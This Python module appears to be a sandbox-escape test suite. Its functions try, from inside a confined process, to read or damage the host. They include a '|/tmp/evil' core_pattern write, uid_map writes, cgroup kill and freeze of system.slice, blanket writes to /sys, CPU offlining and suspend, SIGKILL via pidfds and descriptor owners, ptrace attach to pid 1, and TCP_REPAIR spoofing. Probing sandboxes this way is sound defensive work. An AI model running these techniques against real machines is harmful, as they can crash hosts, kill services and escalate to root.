"""Attempts by copies within the kernel, and by what tells a process of others: pidfds of peers, owners of descriptors, timers, groups.

Those calls are the first process's to look at, whose own descriptors and memory must not be what is copied or read.
"""

# mypy: ignore-errors

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import glob
import mmap
import os
import signal
import socket
import struct
import threading
import time

from attempting import FACTS, LIBC, attempt, call, driven, is_outside, opened

SENDFILE, SPLICE, COPY_FILE_RANGE, TEE, VMSPLICE = 40, 275, 326, 276, 278
PTRACE, ACCT, SETTIMEOFDAY, CLOCK_SETTIME = 101, 163, 164, 227
EVERYWHERE = ("/proc/version", "/proc/self/maps", "/proc/1/environ", "/sys/kernel/notes", "/etc/passwd", "/dev/zero", "/run/utmp")


def pointer(array):
    return ctypes.addressof(array)


@attempt
def copies_of_what_others_have_open():
    """The numbers of descriptors that are the first process's, not ours, and such as are none."""
    place = os.open("/var/tmp/copied", os.O_CREAT | os.O_RDWR)
    for number in (*range(3, 64), 99999, -1, -100, 1 << 31):
        call(SENDFILE, place, number, None, 4096)
        call(SPLICE, number, None, place, None, 4096, 0)
        call(COPY_FILE_RANGE, number, None, place, None, 4096, 0)
    return is_outside(os.pread(place, 1 << 20, 0))


@attempt
def descriptors_that_change_while_they_are_copied():
    """The number is of a file of /proc's when it is looked at, and of another when the kernel takes it."""
    place, going = os.open("/var/tmp/racing", os.O_CREAT | os.O_RDWR), time.monotonic() + 3
    number = os.dup(opened("/proc/version"))

    def change():
        while time.monotonic() < going:
            for path in EVERYWHERE:
                with contextlib.suppress(OSError):
                    os.dup2(opened(path), number)

    threading.Thread(target=change, daemon=True).start()
    while time.monotonic() < going:
        call(SENDFILE, place, number, None, 65536)
        call(COPY_FILE_RANGE, number, None, place, None, 65536, 0)
    return is_outside(os.pread(place, 1 << 22, 0))


@attempt
def pages_that_are_given_to_the_server():
    """SPLICE_F_GIFT and _MOVE of our own pages into a file, which we go on to write while the server reads them."""
    reader, writer = os.pipe()
    place = os.open("/var/tmp/given", os.O_CREAT | os.O_RDWR)
    pages = mmap.mmap(-1, 16 * 4096)
    start = ctypes.addressof(ctypes.c_char.from_buffer(pages))
    vector = (ctypes.c_ulong * 2)(start, 16 * 4096)
    for round_ in range(200):
        call(VMSPLICE, writer, pointer(vector), 1, 8)
        call(TEE, reader, writer, 4096, 2)
        call(SPLICE, reader, None, place, None, 16 * 4096, 1)
        pages[:8] = struct.pack("Q", round_)
    return is_outside(os.pread(place, 1 << 22, 0))


@attempt
def copies_into_memory_and_maps():
    source = os.open("/var/tmp/source", os.O_CREAT | os.O_RDWR)
    os.write(source, b"0 0 4294967295\n")
    reader, writer = os.pipe()
    for path in (
        "/proc/1/mem",
        "/proc/self/mem",
        "/proc/self/uid_map",
        "/proc/1/uid_map",
        "/proc/sys/kernel/core_pattern",
        "/proc/1/attr/exec",
    ):
        target = opened(path, os.O_WRONLY)
        if target >= 0:
            os.write(writer, b"|/tmp/evil\n")
            call(SPLICE, reader, None, target, None, 11, 0)
            call(SENDFILE, target, source, None, 16)
            call(COPY_FILE_RANGE, source, None, target, None, 16, 0)
    with open("/proc/self/status") as file:
        return None if any(line.startswith("Uid:\t0\t") for line in file) else "another user"


@attempt
def a_storm_of_copies():
    """Hundreds at once of calls that the first process looks at."""
    place = opened("/proc/version")
    sink = os.open("/dev/null", os.O_WRONLY)

    def copy():
        for _ in range(400):
            call(SENDFILE, sink, place, None, 10)

    threads = [threading.Thread(target=copy) for _ in range(24)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return


@attempt
def accounting_by_strange_paths():
    """acct(2) has its path looked up by who looks at the call: from our root, and no further."""
    names = [FACTS["canary_path"], "../" * 50 + FACTS["canary_path"].lstrip("/"), "/proc/1/root", "/proc/1/cwd/x", "/proc/self/fd/0", "a" * 5000,
             "/proc/self/../1/root" + FACTS["canary_path"], "/dev/fd/../../1/root", ""]  # fmt: skip
    answers = {name: call(ACCT, name.encode()) for name in names}
    return FACTS["canary_path"] if answers[FACTS["canary_path"]] == 0 else None


@attempt
def times_at_the_edge_of_memory():
    """Pointers whose second half is nowhere, that are kernels' or go away meanwhile."""
    pages = mmap.mmap(-1, 8192)
    start = ctypes.addressof(ctypes.c_char.from_buffer(pages))
    LIBC.mprotect(ctypes.c_void_p(start + 4096), 4096, 0)
    before = time.time()
    for address in (start + 4088, start + 4095, 1, (1 << 63) - 8, (1 << 64) - 8, 0xFFFF800000000000, start + 4090):
        call(SETTIMEOFDAY, address, 0)
        call(SETTIMEOFDAY, 0, address)
        call(CLOCK_SETTIME, 0, address)
    return "the clock" if abs(time.time() - before) > 60 else None


@attempt
def filters_of_everybody():
    """PTRACE_SECCOMP_GET_FILTER and _GET_METADATA of each process and each thread."""
    room = ctypes.create_string_buffer(1 << 16)
    for pid in [*range(1, 300), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
        for request in (0x420C, 0x420D):
            for word in (0, 16, -1):
                if call(PTRACE, request, pid, word, pointer(room)) > 0:
                    return pid
    return None


@attempt
def groups_of_the_machine_killed_and_frozen():
    """The host's process must be there afterwards, and so must we."""
    for group in (
        "init.scope",
        "system.slice",
        *(os.path.relpath(path, "/sys/fs/cgroup") for path in glob.glob("/sys/fs/cgroup/system.slice/*/")),
    ):
        for file in ("cgroup.kill", "cgroup.freeze", "memory.reclaim"):
            with contextlib.suppress(OSError), open(f"/sys/fs/cgroup/{group}/{file}", "w") as target:
                target.write("1")
    for text in (str(FACTS["pid"]), "1", "2", "0"):
        with contextlib.suppress(OSError), open("/sys/fs/cgroup/system.slice/cgroup.procs", "w") as target:
            target.write(text)
    return


@attempt
def everything_of_sys_written():
    """Drivers unbound, caches shrunk, parameters of modules set: whatever can be opened below /sys takes what is written, or not."""
    going = time.monotonic() + 12
    for top in ("bus", "kernel", "module", "power", "firmware", "class", "devices/system", "fs"):
        for above, _, names in os.walk(f"/sys/{top}"):
            if "cgroup" in above or time.monotonic() > going:
                continue
            for name in names:
                with contextlib.suppress(OSError), open(f"{above}/{name}", "wb", buffering=0) as file:
                    file.write(b"1\n")
    return


@attempt
def processors_and_memory_taken_away():
    for path in (
        *glob.glob("/sys/devices/system/cpu/cpu*/online"),
        *glob.glob("/sys/devices/system/memory/memory*/state"),
        "/sys/power/state",
        "/sys/power/disk",
    ):
        for text in (b"0", b"offline", b"mem", b"disk", b"freeze"):
            with contextlib.suppress(OSError), open(path, "wb", buffering=0) as file:
                file.write(text)
    return


@attempt
def a_character_device_of_our_own():
    """/dev/cuse, and the other nodes that stand there before their driver."""
    return next(
        (
            name
            for name in ("cuse", "vhci", "ppp", "nvram", "hwrng", "loop-control", "vhost-net", "vfio/vfio")
            if driven(f"/dev/{name}", os.O_RDWR) >= 0
        ),
        None,
    )


def _used(place):
    """What can be done to others by a pidfd."""
    if call(424, place, 0, 0, 0) == 0:
        return "signalled"
    if any(call(438, place, number, 0) >= 0 for number in range(64)):
        return "a descriptor"
    if any(call(308, place, kind) == 0 for kind in (0x20000, 0x40000000, 0x10000000, 0x20000000, 0x40000000 | 0x20000)):
        return "its namespaces"
    return "its memory is released" if call(448, place, 0) == 0 else None


@attempt
def who_listens_by_a_pidfd():
    """SO_PEERPIDFD of each socket that somebody outside of the cell may have bound."""
    for path in (
        "/run/systemd/journal/stdout",
        "/run/systemd/journal/socket",
        "/run/systemd/journal/dev-log",
        "/run/dbus/system_bus_socket",
        "/dev/log",
    ):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            near = socket.socket(socket.AF_UNIX, kind)
            with contextlib.suppress(OSError):
                near.connect(path)
                place = struct.unpack("i", near.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
                if reached := _used(place):
                    return path, reached
    return None


@attempt
def who_has_sent_by_a_pidfd():
    """SO_PASSPIDFD and SO_PASSCRED on what is answered us."""
    near = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    near.settimeout(2)
    for option in (76, 16):
        with contextlib.suppress(OSError):
            near.setsockopt(socket.SOL_SOCKET, option, 1)
    with contextlib.suppress(OSError):
        near.connect("/run/dbus/system_bus_socket")
        near.send(b"\0AUTH EXTERNAL 30\r\n")
        _, extra, _, _ = near.recvmsg(4096, 256)
        for _, kind, data in extra:
            if kind == 4 and (reached := _used(struct.unpack("i", data[:4])[0])):
                return reached
    return None


@attempt
def signals_by_a_descriptor_s_owner():
    """F_SETOWN and F_SETSIG: a pipe that kills whom it belongs to when something comes."""
    for owner in (1, FACTS["pid"], -1, -FACTS["pid"], 2, 3):
        reader, writer = os.pipe()
        with contextlib.suppress(OSError):
            fcntl.fcntl(reader, fcntl.F_SETOWN, owner)
            fcntl.fcntl(reader, fcntl.F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            if owner > 0:
                os.write(writer, b"x")
    return


@attempt
def timers_that_ring_elsewhere():
    """SIGEV_THREAD_ID of threads that are not ours."""
    for thread in (1, 2, 3, FACTS["pid"], os.getppid()):
        event, made = ctypes.create_string_buffer(64), ctypes.c_int()
        struct.pack_into("QiiI", event, 0, 0, signal.SIGKILL, 4, thread)
        if call(222, 1, pointer(event), pointer(made)) == 0:
            return thread
    return None


@attempt
def the_first_process_compared_and_listed():
    """get_robust_list(2) and kcmp(2) tell where its memory lies and what it has open."""
    head, size = ctypes.c_ulong(), ctypes.c_ulong()
    if call(274, 1, pointer(head), pointer(size)) == 0:
        return head.value
    return next((number for number in range(64) if call(312, os.getpid(), 1, 0, 0, number) >= 0), None)


@attempt
def shared_memory_that_is_not_ours():
    """SHM_STAT_ANY over all numbers of segments, each attached."""
    LIBC.shmat.restype = ctypes.c_void_p
    for index in range(4096):
        facts = ctypes.create_string_buffer(256)
        number = LIBC.shmctl(index, 15, facts)
        if number >= 0:
            address = LIBC.shmat(number, None, 0o10000)
            if address not in (None, ctypes.c_void_p(-1).value) and is_outside(ctypes.string_at(address, 4096)):
                return number
    return None


@attempt
def an_address_of_the_host_s_taken():
    """IP_FREEBIND and IP_TRANSPARENT: we speak as the host, to the host."""
    for address in FACTS["addresses"]:
        if ":" in address:
            continue
        near = socket.socket()
        near.settimeout(2)
        with contextlib.suppress(OSError):
            for option in (15, 19):
                near.setsockopt(socket.IPPROTO_IP, option, 1)
            near.bind((address, 0))
            near.connect((address, FACTS["port"]))
            if is_outside(near.recv(100)):
                return address
    return None


@attempt
def connections_put_together_by_hand():
    """TCP_REPAIR: a connection to the host's port without a handshake."""
    near = socket.socket()
    near.settimeout(2)
    with contextlib.suppress(OSError):
        near.setsockopt(socket.IPPROTO_TCP, 19, 1)
        near.connect(("127.0.0.1", FACTS["port"]))
        near.setsockopt(socket.IPPROTO_TCP, 19, 0)
        near.send(b"x")
        if is_outside(near.recv(100)):
            return "the host's port"
    return None


@attempt
def everybody_may_trace_and_we_do():
    """PR_SET_PTRACER of anybody, then PTRACE_SEIZE and PTRACE_ATTACH of the lowest numbers."""
    LIBC.prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)
    for pid in range(1, 40):
        for request in (0x4206, 16):
            if pid not in (os.getpid(), os.getppid()) and call(PTRACE, request, pid, 0, 0) == 0:
                with open(f"/proc/{pid}/comm") as file:
                    name = file.read()
                call(PTRACE, 17, pid, 0, 0)
                if pid == 1 or name.startswith("mirage"):
                    return pid, name
    return None


@attempt
def cookies_of_a_core():
    """PR_SCHED_CORE: a core shared with whom we name."""
    return next(((pid, kind) for pid in (1, FACTS["pid"]) for kind in (2, 3) if LIBC.prctl(62, kind, pid, 0, 0) == 0), None)
